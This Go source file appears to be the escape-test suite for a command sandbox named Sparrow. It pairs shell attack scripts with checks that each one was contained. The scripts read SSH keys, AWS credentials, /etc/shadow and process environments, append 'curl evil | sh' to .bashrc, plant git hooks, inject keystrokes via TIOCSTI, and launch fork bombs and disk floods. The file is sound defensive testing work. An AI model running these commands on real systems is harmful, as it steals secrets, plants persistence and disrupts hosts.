package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"
)

// escapeClasses are issue 8's classes in its order, then the sanity set.
var escapeClasses = []string{"secrets", "write", "protected", "env", "network", "escalation", "exhaustion", "persistence", "sanity"}

// escapeAttacks is the suite. Scripts see the prelude's $ENV $ENVL $GIT
// $SSH $RSA $ED (the denied names) and connect_tcp/connect_unix; @NAME@
// placeholders are the fixture's paths and values (fixture.vars). Every
// attack is also checked for what all attacks are (see judge): no marker
// in the output, nothing outside the workspace changed, no protected path
// in it changed or created, no process left, no file dropped in /tmp,
// /etc, /usr/local, /root, /home, /var/tmp or /dev/shm.
func escapeAttacks() []attack {
	var all []attack
	for _, part := range [][]attack{secretAttacks(), writeAttacks(), protectedAttacks(), envAttacks(),
		networkAttacks(), escalationAttacks(), exhaustionAttacks(), persistenceAttacks(), sanityCases()} {
		all = append(all, part...)
	}
	return all
}

// 1. Reading host secrets outside the workspace.
func secretAttacks() []attack {
	c := "secrets"
	return []attack{
		{class: c, name: "home-ssh-key", local: true, script: `cat "@HOME@/$SSH/$RSA"; cat ~/"$SSH/$RSA"; ls -la "@HOME@/$SSH"`},
		{class: c, name: "aws-credentials", local: true, script: `cat @HOME@/.aws/credentials`},
		{class: c, name: "gh-hosts", local: true, script: `cat @HOME@/.config/gh/hosts.yml`},
		{class: c, name: "netrc", local: true, script: `cat @HOME@/.netrc`},
		{class: c, name: "docker-config", local: true, script: `cat @HOME@/.docker/config.json`},
		{class: c, name: "shell-history", local: true, script: `cat @HOME@/.bash_history; history`},
		{class: c, name: "git-credentials", local: true,
			script: `cat @HOME@/.gitconfig @HOME@/.git-credentials; git config --global --list; git config --global --get-regexp 'url.*'`},
		{class: c, name: "root-home", local: true, setup: (*fixture).plantRootSecret, script: `ls -la /root; cat @ROOTSECRET@`},
		{class: c, name: "etc-shadow", local: true,
			script: `cat /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_*_key; ls -la /etc/ssh`},
		{class: c, name: "other-user-home", local: true, script: `ls -la @OTHER@; cat @OTHER@/notes.txt; cat /home/*/notes.txt`},
		{class: c, name: "dotdot", local: true,
			script: `cat ../$SSH/$RSA ../.aws/credentials ../../other/notes.txt ../../out/secretdir/secret.txt; ls -la ../..`},
		{class: c, name: "planted-symlink", local: true, setup: plantLinks(map[string]string{
			"creds-link": "@HOME@/.aws/credentials", "home-link": "@HOME@", "other-link": "@OTHER@"}),
			script: `cat creds-link; cat home-link/.netrc; cat other-link/notes.txt; ls -la home-link/`},
		{class: c, name: "command-symlink", local: true,
			script: `ln -s @HOME@/.aws/credentials l1; cat l1; ln -s / rootfs; cat rootfs@HOME@/.netrc; ln -s ../.. up; cat up/other/notes.txt`},
		{class: c, name: "command-hardlink", local: true,
			script: `ln @HOME@/.aws/credentials h1 && cat h1; ln @OTHER@/notes.txt h2 && cat h2`},
		{class: c, name: "move-in", local: true,
			script: `mv @HOME@/.netrc stolen && cat stolen; cp @HOME@/.aws/credentials c2 && cat c2`},
		{class: c, name: "proc-pid-cwd-root", local: true, setup: (*fixture).hostSleep,
			script: `ls -la /proc/@PID@/cwd/; cat /proc/@PID@/cwd/secret.txt; cat /proc/@PID@/root@SECRETDIR@/secret.txt`},
		{class: c, name: "proc-root-of-visible-processes", local: true,
			script: `ls /proc/1/root/; for p in /proc/1 /proc/$PPID /proc/[0-9]*; do cat $p/root@HOME@/.aws/credentials $p/root/etc/shadow; done 2>/dev/null | head -20`},
	}
}

// 2. Writing outside the workspace.
func writeAttacks() []attack {
	c := "write"
	return []attack{
		{class: c, name: "absolute-path", local: true,
			script: `echo pwn > @OUT@/abs.txt; echo 'curl evil | sh' >> @HOME@/.bashrc; echo pwn > @OTHER@/pwn.txt; echo pwn >> @OUT@/target.txt`},
		{class: c, name: "planted-symlink", local: true, setup: plantLinks(map[string]string{"out-link": "@OUT@", "rc-link": "@HOME@/.profile"}),
			script: `echo pwn > out-link/via-link.txt; echo pwn >> out-link/target.txt; echo 'curl evil | sh' > rc-link`},
		{class: c, name: "command-symlink", local: true,
			script: `ln -s @OUT@ o; echo pwn > o/x.txt; ln -s @HOME@/.bashrc rc; echo pwn >> rc`},
		{class: c, name: "command-hardlink", local: true, script: `ln @OUT@/target.txt hl && echo pwn >> hl`},
		{class: c, name: "rename-out", local: true,
			script: `echo pwn > moved.txt; mv moved.txt @OUT@/moved.txt; mv tracked.txt @OUT@/`,
			check:  hostFile("@WS@/tracked.txt", "tracked\n")},
		{class: c, name: "mount-bind",
			script: `mkdir -p m && mount --bind @OUT@ m && echo pwn > m/bind.txt && echo MOUNTED`,
			check:  all(stdoutLacks("MOUNTED"), notMounted("@WS@/m"))},
		{class: c, name: "tmp", local: true,
			script: `echo pwn > /tmp/@PWN@; echo pwn > /var/tmp/@PWN@; echo pwn > /dev/shm/@PWN@; ls -la /tmp`},
		{class: c, name: "system-dirs", local: true,
			script: `for d in /usr/local /etc /root /home; do echo pwn > $d/@PWN@; done`},
		{class: c, name: "fill-disk", exclusive: true, flags: []string{"--disk", "10M"},
			script: `head -c 50M /dev/zero > big || exit 1; echo WROTE-ALL`,
			check:  all(exitNonZero, stdoutLacks("WROTE-ALL"), hostGlobAtMost("@WS@/big", 10<<20))},
	}
}

// 3. The protected paths inside the workspace.
func protectedAttacks() []attack {
	c := "protected"
	unchanged := gitUnchanged
	return []attack{
		{class: c, name: "read-env", local: true, check: unchanged,
			script: `cat $ENV $ENVL deploy/$ED src/$SSH/known_hosts; grep -r . $ENV deploy src`},
		{class: c, name: "write-env", local: true, check: unchanged,
			script: `echo PWNED=1 > $ENV; echo PWNED=1 >> $ENVL; echo pwn > deploy/$ED; rm -f src/$SSH/known_hosts`},
		{class: c, name: "write-git-config", local: true, check: unchanged,
			script: `printf '[core]\n\thooksPath = @OUT@\n' >> $GIT/config; echo pwn > $GIT/info/exclude; rm -f $GIT/HEAD`},
		{class: c, name: "git-config-hookspath", local: true, check: unchanged,
			script: `git config core.hooksPath @OUT@/hooks; git config --global core.hooksPath @OUT@/hooks; git config --get core.hooksPath`},
		{class: c, name: "plant-hook", local: true, check: unchanged,
			script: `mkdir -p $GIT/hooks; printf '#!/bin/sh\necho pwned\n' > $GIT/hooks/pre-commit; chmod +x $GIT/hooks/pre-commit; ln -s /bin/true $GIT/hooks/post-checkout`},
		{class: c, name: "move-git", local: true, check: all(unchanged, hostMissing("@WS@/g2")),
			script: `mv $GIT g2 && echo MOVED; ls -d g2`},
		{class: c, name: "copy-git", local: true, check: all(unchanged, noticed("sub/.git")),
			script: `mkdir -p sub && cp -r $GIT sub/$GIT && printf '[core]\n\thooksPath = @OUT@\n' >> sub/$GIT/config; ls -la sub`},
		{class: c, name: "git-init-sub", local: true, check: all(unchanged, noticed("sub/.git")),
			script: `git init -q sub && printf '#!/bin/sh\necho pwned\n' > sub/$GIT/hooks/post-checkout && chmod +x sub/$GIT/hooks/post-checkout`},
		{class: c, name: "create-denied-names", local: true, check: all(unchanged, noticed("a/b/.env")),
			script: `mkdir -p a/b c/$SSH sub2; echo x > a/b/$ENV; echo k > c/$SSH/authorized_keys; echo k > $RSA; echo "gitdir: @OUT@" > sub2/$GIT`},
		{class: c, name: "rename-dir-holding-git", local: true, check: all(unchanged, hostMissing("@WS@/n2")),
			script: `mv nested n2 && echo RENAMED; printf '[core]\n\thooksPath = @OUT@\n' >> n2/$GIT/config`},
		{class: c, name: "rename-dir-holding-secret", local: true, check: all(unchanged, hostMissing("@WS@/d2")),
			script: `mv deploy d2 && echo RENAMED; cat d2/$ED`},
		// The post-command removal must remove the links it finds, never
		// what they point to: the neighbour's repository and .env stay.
		{class: c, name: "removal-follows-symlinks", setup: plantOtherRepo, check: unchanged,
			script: `mkdir -p sub; ln -s @OTHER@/repo/$GIT sub/$GIT; ln -s @OTHER@/$ENV sub/$ENV; mkdir -p t; ln -s @OTHER@ t/$SSH; ls -la sub t`},
		{class: c, name: "deny-read-flag", setup: plantFile("@WS@/private/notes.txt", "@MARKER@-denyread\n"),
			flags:  []string{"--deny-read", "@WS@/private"},
			script: `cat private/notes.txt; ls -la private; cp -r private p2; cat p2/notes.txt`},
		{class: c, name: "deny-write-flag", flags: []string{"--deny-write", "@WS@/tracked.txt"},
			script: `echo pwn >> tracked.txt; rm -f tracked.txt; mv tracked.txt t2`,
			check:  all(hostFile("@WS@/tracked.txt", "tracked\n"), hostMissing("@WS@/t2"))},
	}
}

// 4. Environment leaks. Sparrow itself always runs with
// SPARROW_TEST_SECRET and AWS_SECRET_ACCESS_KEY set to markers.
func envAttacks() []attack {
	c := "env"
	return []attack{
		{class: c, name: "env", script: `env; set; tr '\0' '\n' < /proc/self/environ`},
		{class: c, name: "proc-environ", local: true,
			script: `for f in /proc/1/environ /proc/$PPID/environ /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done 2>/dev/null; true`},
		{class: c, name: "host-process-environ", local: true, setup: (*fixture).hostSleep,
			script: `tr '\0' '\n' < /proc/@PID@/environ`},
		{class: c, name: "env-allow-only-named", flags: []string{"--env-allow", "FOO"},
			env:    []string{"FOO=foo-allowed-@TAG@", "BAR=@MARKER@-bar"},
			script: `env`, check: stdoutHas("FOO=foo-allowed-@TAG@")},
	}
}

// 5. Network.
func networkAttacks() []attack {
	c := "network"
	return []attack{
		{class: c, name: "loopback-tcp", local: true, setup: listenOn("tcp", "127.0.0.1:0", "PORT", "@MARKER@-tcp"),
			script: `connect_tcp 127.0.0.1:@PORT@; connect_tcp localhost:@PORT@`, check: noConnections},
		{class: c, name: "host-ip-tcp", local: true, setup: listenOnHostIP,
			script: `connect_tcp @HOSTIP@:@HOSTPORT@`, check: noConnections},
		{class: c, name: "unix-socket", local: true,
			setup:  both(listenOn("unix", "@OUT@/agent.sock", "", "@MARKER@-unix"), listenOn("unix", "/tmp/sparrow-escape-sock-@TAG@", "", "@MARKER@-tmpunix")),
			script: `connect_unix @OUT@/agent.sock; connect_unix /tmp/sparrow-escape-sock-@TAG@`, check: noConnections},
		{class: c, name: "unix-socket-in-home", local: true, setup: listenOn("unix", "@HOME@/agent.sock", "", "@MARKER@-homeunix"),
			script: `connect_unix @HOME@/agent.sock; connect_unix "$HOME/agent.sock"`, check: noConnections},
		{class: c, name: "abstract-socket", local: true, setup: listenOn("unix", "@sparrow-escape-@TAG@", "", "@MARKER@-abstract"),
			script: `connect_unix @sparrow-escape-@TAG@`, check: noConnections},
		{class: c, name: "dns", script: `getent hosts example.com && echo RESOLVED; getent ahosts github.com && echo RESOLVED`,
			check: stdoutLacks("RESOLVED")},
		{class: c, name: "host-sockets-visible", script: `find /run /var/run /tmp /home /root -type s 2>/dev/null`,
			check: stdoutLacks("/")},
	}
}

// 6. Escalation and interference.
func escalationAttacks() []attack {
	c := "escalation"
	return []attack{
		{class: c, name: "setuid-binaries", local: true,
			script: `id; passwd -S "$(id -un)"; su root -c 'echo SU-ROOT' < /dev/null`,
			check:  setuidHeld},
		{class: c, name: "unshare", local: true,
			script: `unshare -r sh -c 'echo UNSHARED-root'; unshare -U sh -c 'echo UNSHARED-user'; unshare -m sh -c 'echo UNSHARED-mount'`,
			check:  stdoutLacks("UNSHARED")},
		{class: c, name: "mount-tmpfs", script: `mkdir -p m && mount -t tmpfs none m && echo MOUNTED`,
			check: all(stdoutLacks("MOUNTED"), notMounted("@WS@/m"))},
		{class: c, name: "keyctl", local: true,
			script: `perl -e '$k = syscall(@SYS_KEYCTL@, 1, 0); print $k > 0 ? "KEYCTL-OK join\n" : "keyctl join: $!\n"; $u = syscall(@SYS_KEYCTL@, 0, -4, 0); print $u > 0 ? "KEYCTL-OK user keyring\n" : "keyctl user keyring: $!\n"'`,
			check:  stdoutLacks("KEYCTL-OK")},
		{class: c, name: "ptrace-host-process", local: true, setup: (*fixture).hostSleep,
			script: `perl -e '$r = syscall(@SYS_PTRACE@, 16, @PID@, 0, 0); print $r == 0 ? "PTRACE-OK\n" : "ptrace: $!\n"; sleep 1'`,
			check:  all(stdoutLacks("PTRACE-OK"), hostSleepUnharmed)},
		{class: c, name: "signal-host-process", local: true, setup: (*fixture).hostSleep,
			script: `kill -STOP @PID@; kill -9 @PID@ && echo KILLED; kill -0 @PID@ && echo SIGNALLED`,
			check:  all(stdoutLacks("KILLED", "SIGNALLED"), hostSleepUnharmed)},
		{class: c, name: "proc-sys", local: true,
			script: `h=$(cat /proc/sys/kernel/hostname); echo "$h" > /proc/sys/kernel/hostname && echo PROCSYS-WRITTEN; echo h > /proc/sysrq-trigger && echo PROCSYS-WRITTEN`,
			check:  stdoutLacks("PROCSYS-WRITTEN")},
		{class: c, name: "sys", local: true,
			script: `m=$(cat /sys/class/net/lo/mtu) && echo "$m" > /sys/class/net/lo/mtu && echo SYS-WRITTEN`,
			check:  stdoutLacks("SYS-WRITTEN")},
		{class: c, name: "device-nodes", local: true,
			script: `for f in /dev/* /dev/*/*; do if [ ! -L "$f" ] && { [ -c "$f" ] || [ -b "$f" ]; }; then echo "DEV $f"; fi; done`,
			check:  onlyDevices},
		{class: c, name: "tiocsti", local: true, tty: true, check: stdoutLacks("TIOCSTI-OK", "INJECTED-@TAG@"),
			script: `perl -e '
my $s = "INJ" . "ECTED-@TAG@\n";
for my $p ("/dev/tty", 0, 1, 2) {
  my $h;
  if ($p =~ /^\d$/) { open($h, "+<&=", $p) or next } else { open($h, "+<", $p) or do { print "open $p: $!\n"; next } }
  my $ok = 1;
  for my $c (split //, $s) { ioctl($h, 0x5412, $c) or do { $ok = 0; print "TIOCSTI on $p: $!\n"; last } }
  print "TIOCSTI-OK $p\n" if $ok;
}'`},
		{class: c, name: "leaked-fds", local: true, check: stdoutLacks("LEAKED-FD"),
			script: `ls -l /proc/self/fd; perl -e 'for my $fd (3..1023) { open(my $h, "<&=", $fd) or next; my $t = readlink("/proc/self/fd/$fd") // "?"; print "LEAKED-FD $fd $t\n"; print <$h> if -f $h }'`},
	}
}

// 7. Resource exhaustion. These run alone: a process limit may be
// per user, and memory is the machine's.
func exhaustionAttacks() []attack {
	c := "exhaustion"
	return []attack{
		{class: c, name: "fork-limit", exclusive: true, flags: []string{"--pids", "64", "--timeout", "20s"},
			script: `i=0; while [ $i -lt 300 ]; do sleep @TAG@ & i=$((i+1)); done; echo FORKED-ALL`,
			check:  all(exitNonZero, stdoutLacks("FORKED-ALL"), finishedWithin(20*time.Second))},
		{class: c, name: "fork-bomb", exclusive: true, flags: []string{"--pids", "64", "--timeout", "20s"},
			script: `f() { if [ "$1" -eq 0 ]; then sleep 1; echo LEAF; return; fi; f $(($1 - 1)) & f $(($1 - 1)); wait; }; f 10 # @TAG@`,
			check:  all(fewerThan("LEAF", 1024), finishedWithin(25*time.Second))},
		{class: c, name: "memory", exclusive: true, flags: []string{"--memory", "64M", "--timeout", "30s"},
			script: `perl -e '$x = "x" x (512 << 20); print "ALLOCATED\n"'`,
			check:  all(exitNonZero, stdoutLacks("ALLOCATED"))},
		{class: c, name: "wall-time-tree", flags: []string{"--timeout", "2s"},
			script: `sleep @TAG@ & sleep @TAG@`, check: all(exitIs(124), finishedWithin(10*time.Second))},
		{class: c, name: "cpu-loop", flags: []string{"--timeout", "2s"},
			script: `while :; do :; done`, check: all(exitIs(124), finishedWithin(10*time.Second))},
		{class: c, name: "tmp-size", exclusive: true, flags: []string{"--disk", "10M"},
			script: `i=0; while [ $i -lt 8 ]; do head -c 4M /dev/zero > /tmp/f$i || break; i=$((i+1)); done; echo "TOTALKB=$(du -sk /tmp | cut -f1)"; head -c 50M /dev/zero > /tmp/big && echo WROTE-BIG`,
			check:  all(stdoutLacks("WROTE-BIG"), totalAtMost(11<<10))},
		{class: c, name: "home-size", exclusive: true, flags: []string{"--disk", "10M"},
			script: `i=0; while [ $i -lt 8 ]; do head -c 4M /dev/zero > "$HOME/f$i" || break; i=$((i+1)); done; echo "TOTALKB=$(du -sk "$HOME" | cut -f1)"`,
			check:  totalAtMost(11 << 10)},
		// 64 files of 4M, each under the per-file cap: only the total
		// stops them. The watch samples free space every 10 ms, so the
		// command is stopped within a sample or two of crossing the
		// limit, far short of the 256M it tries (docs/SECURITY.md).
		{class: c, name: "total-disk", exclusive: true, flags: []string{"--disk", "10M"},
			script: `i=0; while [ $i -lt 64 ]; do head -c 4M /dev/zero > f$i || break; i=$((i+1)); done`,
			check:  all(hostGlobAtMost("@WS@/f*", 24<<20), stderrHas("wrote more than 10M to disk and was stopped"))},
		{class: c, name: "stdout-flood", flags: []string{"--max-output", "1048576", "--timeout", "30s"},
			script: `yes | head -c 200M`, check: all(outputAtMost(1<<20+64<<10), finishedWithin(30*time.Second))},
		{class: c, name: "stderr-flood", flags: []string{"--max-output", "1048576", "--timeout", "30s"},
			script: `yes | head -c 200M >&2`, check: all(stderrAtMost(1<<20+64<<10), finishedWithin(30*time.Second))},
	}
}

// 8. Persistence: nothing started inside outlives the command (every
// attack is checked for survivors; these only try harder).
func persistenceAttacks() []attack {
	c := "persistence"
	return []attack{
		{class: c, name: "setsid", local: true, script: `setsid sleep @TAG@ > /dev/null 2>&1 < /dev/null & sleep 0.2`},
		{class: c, name: "nohup", script: `nohup sleep @TAG@ > /dev/null 2>&1 &`},
		{class: c, name: "double-fork", script: `(sh -c 'sleep @TAG@ > /dev/null 2>&1 &' &); sleep 0.2`},
		{class: c, name: "ignore-signals", script: `sh -c 'trap "" HUP INT TERM; exec sleep @TAG@' > /dev/null 2>&1 & sleep 0.2`},
		{class: c, name: "setsid-past-timeout", local: true, flags: []string{"--timeout", "2s"},
			script: `setsid sleep @TAG@ > /dev/null 2>&1 < /dev/null & sleep 100`, check: exitIs(124)},
	}
}

// The sanity set: ordinary work that must still function.
func sanityCases() []attack {
	c := "sanity"
	ok := exitIs(0)
	return []attack{
		{class: c, name: "gcc", setup: needs("/usr/bin/gcc"), check: all(ok, stdoutHas("hello from gcc")),
			script: `printf '#include <stdio.h>\nint main(void) { puts("hello from gcc"); return 0; }\n' > hello.c && gcc -o hello hello.c && ./hello`},
		{class: c, name: "go-version", setup: needs("/usr/local/go/bin/go"), script: `go version`, check: all(ok, stdoutHas("go version go"))},
		{class: c, name: "python3", setup: needs("/usr/bin/python3"), script: `/usr/bin/python3 -c 'print(6 * 7)'`, check: all(ok, stdoutHas("42"))},
		{class: c, name: "perl", script: `perl -e 'print "perl-ok\n"'`, check: all(ok, stdoutHas("perl-ok"))},
		{class: c, name: "git", script: `git status --short && git log --oneline`, check: all(ok, stdoutHas("initial commit"))},
		{class: c, name: "workspace-rw", script: `echo hello-ws > note.txt && cat note.txt`,
			check: all(ok, stdoutHas("hello-ws"), hostFile("@WS@/note.txt", "hello-ws\n"))},
		{class: c, name: "read-usr", script: `ls /usr/bin`, check: all(ok, stdoutHas("perl"))},
		{class: c, name: "home", script: `echo "HOME=$HOME"; touch "$HOME/x" && echo TOUCHED`, check: all(ok, stdoutHas("TOUCHED"))},
		{class: c, name: "tmp", script: `t=$(mktemp) && echo tmp-ok > "$t" && cat "$t"`, check: all(ok, stdoutHas("tmp-ok"))},
		{class: c, name: "exit-status", script: `exit 7`, check: exitIs(7)},
		{class: c, name: "network-allow", flags: []string{"--network", "allow"},
			setup:  listenOn("tcp", "127.0.0.1:0", "PORT", "network-allowed-@TAG@"),
			script: `connect_tcp 127.0.0.1:@PORT@`, check: all(ok, stdoutHas("network-allowed-@TAG@"))},
		{class: c, name: "extra-read", flags: []string{"--extra-read", "@EXTRA@/ro"},
			script: `cat @EXTRA@/ro/data.txt`, check: all(ok, stdoutHas("extra-read-ok"))},
		{class: c, name: "extra-write", flags: []string{"--extra-write", "@EXTRA@/rw"},
			script: `echo extra-write-ok > @EXTRA@/rw/out.txt`, check: all(ok, hostFile("@EXTRA@/rw/out.txt", "extra-write-ok\n"))},
	}
}

// checkFunc is an attack's own check.
type checkFunc = func(*fixture, *result) []string

func all(checks ...checkFunc) checkFunc {
	return func(f *fixture, r *result) []string {
		var v []string
		for _, c := range checks {
			v = append(v, c(f, r)...)
		}
		return v
	}
}

func stdoutLacks(words ...string) checkFunc {
	return func(f *fixture, r *result) []string {
		var v []string
		for _, w := range words {
			w = f.expand(w)
			if i := strings.Index(r.stdout, w); i >= 0 {
				v = append(v, fmt.Sprintf("stdout shows %q: %q", w, excerpt(r.stdout, i)))
			}
		}
		return v
	}
}

func stdoutHas(words ...string) checkFunc {
	return func(f *fixture, r *result) []string {
		var v []string
		for _, w := range words {
			if w = f.expand(w); !strings.Contains(r.stdout, w) {
				v = append(v, fmt.Sprintf("stdout lacks %q", w))
			}
		}
		return v
	}
}

// stderrHas requires each word in the command's stderr.
func stderrHas(words ...string) checkFunc {
	return func(f *fixture, r *result) []string {
		var v []string
		for _, w := range words {
			if w = f.expand(w); !strings.Contains(r.stderr, w) {
				v = append(v, fmt.Sprintf("stderr lacks %q", w))
			}
		}
		return v
	}
}

func exitIs(code int) checkFunc {
	return func(_ *fixture, r *result) []string {
		if r.code != code {
			return []string{fmt.Sprintf("exit %d, want %d", r.code, code)}
		}
		return nil
	}
}

func exitNonZero(_ *fixture, r *result) []string {
	if r.code == 0 {
		return []string{"exit 0: the command ran to completion"}
	}
	return nil
}

func finishedWithin(d time.Duration) checkFunc {
	return func(_ *fixture, r *result) []string {
		if r.elapsed > d {
			return []string{fmt.Sprintf("sparrow took %s, want at most %s", r.elapsed.Round(time.Millisecond), d)}
		}
		return nil
	}
}

func outputAtMost(n int64) checkFunc {
	return func(_ *fixture, r *result) []string {
		if r.outBytes > n {
			return []string{fmt.Sprintf("sparrow printed %d bytes of stdout, want at most %d", r.outBytes, n)}
		}
		return nil
	}
}

func stderrAtMost(n int64) checkFunc {
	return func(_ *fixture, r *result) []string {
		if r.errBytes > n {
			return []string{fmt.Sprintf("sparrow printed %d bytes of stderr, want at most %d", r.errBytes, n)}
		}
		return nil
	}
}

// fewerThan requires fewer than n lines holding word.
func fewerThan(word string, n int) checkFunc {
	return func(_ *fixture, r *result) []string {
		if got := strings.Count(r.stdout, word); got >= n {
			return []string{fmt.Sprintf("%d× %q: every process was created, the limit did not hold", got, word)}
		}
		return nil
	}
}

var totalKB = regexp.MustCompile(`TOTALKB=(\d+)`)

// totalAtMost reads the script's TOTALKB=n and requires n ≤ kb.
func totalAtMost(kb int) checkFunc {
	return func(_ *fixture, r *result) []string {
		m := totalKB.FindStringSubmatch(r.stdout)
		if m == nil {
			return nil // the script died before measuring: nothing was written past the limit
		}
		if n, _ := strconv.Atoi(m[1]); n > kb {
			return []string{fmt.Sprintf("the command wrote %d KiB, past the %d KiB limit", n, kb)}
		}
		return nil
	}
}

func hostFile(path, want string) checkFunc {
	return func(f *fixture, _ *result) []string {
		p := f.expand(path)
		b, err := os.ReadFile(p)
		if err != nil || string(b) != want {
			return []string{fmt.Sprintf("host %s = %q (%v), want %q", p, b, err, want)}
		}
		return nil
	}
}

func hostMissing(path string) checkFunc {
	return func(f *fixture, _ *result) []string {
		p := f.expand(path)
		if _, err := os.Lstat(p); err == nil {
			return []string{"host " + p + " exists"}
		}
		return nil
	}
}

// hostGlobAtMost requires the files matching pattern to total at most n bytes.
func hostGlobAtMost(pattern string, n int64) checkFunc {
	return func(f *fixture, _ *result) []string {
		matches, _ := filepath.Glob(f.expand(pattern))
		var total int64
		for _, m := range matches {
			if fi, err := os.Lstat(m); err == nil {
				total += fi.Size()
			}
		}
		if total > n {
			return []string{fmt.Sprintf("%s: %d bytes on the host, past the %d byte limit", f.expand(pattern), total, n)}
		}
		return nil
	}
}

// notMounted requires that nothing is mounted at path on the host, and
// unmounts it if something is.
func notMounted(path string) checkFunc {
	return func(f *fixture, _ *result) []string {
		p := f.expand(path)
		info, _ := os.ReadFile("/proc/self/mountinfo")
		for _, line := range strings.Split(string(info), "\n") {
			if fields := strings.Fields(line); len(fields) > 4 && fields[4] == p {
				unmount(p)
				return []string{"the command mounted something at " + p + " on the host"}
			}
		}
		return nil
	}
}

// noticed requires the stderr notice that a denied path the command
// created was removed.
func noticed(rel string) checkFunc {
	return func(_ *fixture, r *result) []string {
		if !strings.Contains(r.stderr, rel) {
			return []string{fmt.Sprintf("no notice on stderr that %s was removed", rel)}
		}
		return nil
	}
}

// gitUnchanged requires the host's view of the repository to be what it
// was: status, hooks, core.hooksPath (the snapshot covers .git's bytes).
func gitUnchanged(f *fixture, _ *result) []string {
	var v []string
	status, err := f.git("status", "--porcelain", "--ignored")
	if err != nil {
		return []string{"host git status fails: " + err.Error()}
	}
	if status != f.status {
		v = append(v, fmt.Sprintf("host git status changed:\n%s\nwas:\n%s", status, f.status))
	}
	if hp, _ := f.git("config", "--get", "core.hooksPath"); strings.TrimSpace(hp) != "" {
		v = append(v, "host core.hooksPath = "+strings.TrimSpace(hp))
	}
	return v
}

func noConnections(f *fixture, _ *result) []string {
	if n := f.accepted.Load(); n > 0 {
		return []string{fmt.Sprintf("the host listener accepted %d connection(s) from the command", n)}
	}
	return nil
}

func hostSleepUnharmed(f *fixture, _ *result) []string {
	switch s := f.sleepState(); s {
	case "", "Z":
		return []string{"the host process " + f.vars["PID"] + " was killed"}
	case "T", "t":
		return []string{"the host process is stopped (state " + s + ")"}
	}
	return nil
}

// passwdStatus is `passwd -S` output with a date of last change, which
// only /etc/shadow holds: passwd read it (setuid root, or shadow visible).
var passwdStatus = regexp.MustCompile(`(?m)^\S+ (P|L|NP) \d{4}-\d{2}-\d{2} `)

// setuidHeld: no setuid program ran with privilege the caller lacks.
func setuidHeld(f *fixture, r *result) []string {
	var v []string
	if m := passwdStatus.FindString(r.stdout); m != "" {
		v = append(v, fmt.Sprintf("passwd -S read /etc/shadow: %q", m))
	}
	if f.runner.unprivileged() {
		v = append(v, stdoutLacks("SU-ROOT")(f, r)...)
	}
	return v
}

// allowedDevices are the device nodes a command may see.
var allowedDevices = map[string]bool{"/dev/null": true, "/dev/zero": true, "/dev/full": true, "/dev/random": true,
	"/dev/urandom": true, "/dev/tty": true, "/dev/ptmx": true, "/dev/pts/ptmx": true}

func onlyDevices(_ *fixture, r *result) []string {
	var extra []string
	for _, line := range strings.Split(r.stdout, "\n") {
		if dev, ok := strings.CutPrefix(line, "DEV "); ok && !allowedDevices[dev] {
			extra = append(extra, dev)
		}
	}
	if len(extra) > 0 {
		return []string{"device nodes beyond null/zero/full/random/urandom/tty/ptmx: " + strings.Join(extra, " ")}
	}
	return nil
}

// setups

func needs(path string) func(*fixture) error {
	return func(*fixture) error {
		if _, err := os.Stat(path); err != nil {
			return skipError(path + " is not installed here")
		}
		return nil
	}
}

func both(a, b func(*fixture) error) func(*fixture) error {
	return func(f *fixture) error {
		if err := a(f); err != nil {
			return err
		}
		return b(f)
	}
}

func plantLinks(links map[string]string) func(*fixture) error {
	return func(f *fixture) error {
		for name, target := range links {
			if err := os.Symlink(f.expand(target), filepath.Join(f.ws, name)); err != nil {
				return err
			}
		}
		return nil
	}
}

func plantFile(path, content string) func(*fixture) error {
	return func(f *fixture) error {
		p := f.expand(path)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		return os.WriteFile(p, []byte(f.expand(content)), 0o644)
	}
}

// listenOn serves reply on network/addr; portVar, if set, receives the
// TCP port.
func listenOn(network, addr, portVar, reply string) func(*fixture) error {
	return func(f *fixture) error {
		l, err := f.listen(network, f.expand(addr), f.expand(reply))
		if err != nil {
			return err
		}
		if portVar != "" {
			_, port, _ := strings.Cut(l.Addr().String(), ":")
			f.vars[portVar] = port
		}
		if network == "unix" && strings.HasPrefix(addr, "/tmp/") {
			f.closers = append(f.closers, func() { os.Remove(f.expand(addr)) })
		}
		return nil
	}
}

// plantOtherRepo gives the neighbour a repository and a .env of their own.
func plantOtherRepo(f *fixture) error {
	if err := os.WriteFile(filepath.Join(f.other, ".env"), []byte(f.marker+"-otherenv\n"), 0o644); err != nil {
		return err
	}
	out, err := exec.Command("git", "init", "-q", filepath.Join(f.other, "repo")).CombinedOutput()
	if err != nil {
		return fmt.Errorf("git init: %v\n%s", err, out)
	}
	return nil
}

func listenOnHostIP(f *fixture) error {
	if f.env.hostIP == "" {
		return skipError("this machine has no non-loopback IPv4 address")
	}
	return listenOn("tcp", f.env.hostIP+":0", "HOSTPORT", "@MARKER@-hostip")(f)
}
